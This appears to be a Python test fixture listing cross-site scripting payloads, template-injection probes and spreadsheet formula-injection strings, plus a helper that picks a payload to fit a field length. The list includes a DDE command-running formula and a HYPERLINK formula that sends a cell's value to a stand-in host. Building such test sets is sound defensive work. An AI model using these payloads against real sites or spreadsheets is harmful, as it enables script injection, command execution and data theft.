"""Texts that people might type to run a script in another's browser, or a formula in another's spreadsheet.

Each that could run sets `window.__xss`, or asks for something at xss.test.
"""

SCRIPTS = {
    "script": "<script>__xss=1</script>",
    "end of a script": "</script><script>__xss=1</script>",
    "end of a title": "</title></textarea></style><script>__xss=1</script>",
    "end of a comment": "--><img src=x onerror=__xss=1>",
    "image": "<img src=//xss.test/a onerror=__xss=1>",
    "SVG": "<svg onload=__xss=1><animate onbegin=__xss=1></svg>",
    "details": "<details open ontoggle=__xss=1>x</details>",
    "end of an attribute": '"><img src=x onerror="__xss=1">',
    "end of a plain attribute": "'><svg/onload=__xss=1>",
    "attribute": '" autofocus onfocus="__xss=1" x="',
    "single-quoted attribute": "' autofocus onfocus='__xss=1' x='",
    "unquoted attribute": "x onmouseover=__xss=1",
    "backquotes": "`-(__xss=1)-`",
    "script text": "';__xss=1;//\";__xss=1;//",
    "JSON": '"}];__xss=1;//',
    "address": "javascript:__xss=1",
    "disguised address": "java\tscript:__xss=1",
    "data address": "data:text/html,<script>parent.__xss=1</script>",
    "frame": "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "form": "<form action=//xss.test><button formaction=javascript:__xss=1>x",
    "base": "<base href=//xss.test/><a href=a>x</a>",
    "meta": '<meta http-equiv=refresh content="0;url=javascript:__xss=1">',
    "style": "<style>@import '//xss.test/a';</style><link rel=stylesheet href=//xss.test/b>",
    "CSS": "x{background:url(//xss.test/a)}",
    "template": "{{7919*7907}}${7919*7907}#{7919*7907}<%=7919*7907%>{% debug %}",
    "written in full width": "＜script＞__xss=1＜/script＞",
    "escaped": "&lt;script&gt;__xss=1&lt;/script&gt;",
    "hidden in Unicode": "\u202e<\u200bscript>__xss=1</script>",
    "UTF-7": "+ADw-script+AD4-__xss=1+ADw-/script+AD4-",
    "nested": "<scr<script>ipt>__xss=1</scr</script>ipt>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
    "format": "%(name)s{0}{request.user}%s",
}
PRODUCT = "62615533"  # what a template engine would make of its payload
SHORT = {20: "<svg/onload=__xss=1>", 12: "<x onload=a>", 40: "'\"><svg/onload=__xss=1>{{7919*7907}}"}
FORMULAS = (
    *(
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
    ),
    *('=HYPERLINK("http://xss.test/?"&A1)', "x;=1+1", "x\t=1+1", "x\n@SUM(1)", '";=1+1', "x;＝1+1"),
)


ALL_SCRIPTS = " ".join(SCRIPTS.values())  # for fields that show again whatever they refuse


def script_for(place: int, length: int) -> str:
    """Return a payload of at most `length` characters, another one for each place."""
    fitting = [payload for payload in SCRIPTS.values() if len(payload) <= length]
    if length < 24:
        return max((text for text in SHORT.values() if len(text) <= length), key=len, default="<x>"[:length])
    return fitting[place % len(fitting)]
